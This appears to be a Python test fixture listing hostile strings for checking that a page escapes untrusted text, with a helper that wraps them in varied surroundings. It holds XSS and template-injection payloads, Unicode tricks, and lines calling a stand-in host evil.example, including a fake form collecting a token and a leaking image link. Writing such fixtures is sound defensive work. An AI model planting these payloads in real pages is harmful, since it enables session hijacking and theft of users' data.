"""Texts that would do harm in a page that took them for anything but text."""

from __future__ import annotations

_TEXTS = (
    "<script>document.title='owned'</script>",
    "<img src=x onerror=\"document.title='owned'\">",
    "<svg onload=\"document.title='owned'\"><use href='data:image/svg+xml,x'/></svg>",
    "</div></article></main><h1>Signed out</h1><form action='https://evil.example/'><input name='token'></form>",
    "<a href=\"javascript:document.title='owned'\">click</a>",
    "[click](javascript:alert(1)) ![x](https://evil.example/leak.png)",
    "<iframe srcdoc='<script>parent.document.title=1</script>'></iframe>",
    "<meta http-equiv='refresh' content='0;url=https://evil.example/'>",
    "<base href='https://evil.example/'>",
    "<style>*{display:none}</style><link rel=stylesheet href='https://evil.example/x.css'>",
    "<button hx-get='https://evil.example/' hx-trigger='load'>x</button>",
    "<div data-hx-post='/logout' data-hx-trigger='load' hx-on:load=\"document.title='owned'\"></div>",
    "<input autofocus onfocus=\"document.title='owned'\">",
    "{{ 7*7 }} {% raw %} ${7*7} #{7*7} <%= 7*7 %>",
    "\u202egnp.exe \u2066hidden\u2069 \u200bzero\u200bwidth",
    "\x00\x07\x1b[31mred\x1b[0m \ufffe \ud83d\ude00",
    "A" * 5_000,
    "\n" * 300 + "end",
    "' onmouseover='document.title=1' x='",
    '" autofocus onfocus="document.title=1" x="',
    "<!-- --><!--><script>document.title='owned'</script>-->",
    "<template><script>document.title='owned'</script></template>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=document.title='owned'>",
    "<object data='data:text/html,<script>1</script>'></object><embed src='data:text/html,x'>",
    "]]><![CDATA[<script>document.title='owned'</script>",
    "<textarea></textarea><script>document.title='owned'</script>",
    "مرحبا بالعالم " * 20,
    "Z̸̛̖a̷l̴g̵o̶" * 40,
    "ｓｃｒｉｐｔ ＜ｓｃｒｉｐｔ＞",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
)


def hostile_texts(count: int = 200) -> tuple[str, ...]:
    """Return so many texts; those after the first round stand in other surroundings."""
    around = ("{}", "Hello {} there", "<b>{}</b>", "`{}`", "'{}'", '"{}"', "{}{}")
    rounds = range(-(-count // len(_TEXTS)))
    made = [around[number % len(around)].replace("{}", text) for number in rounds for text in _TEXTS]
    return tuple(made[:count])
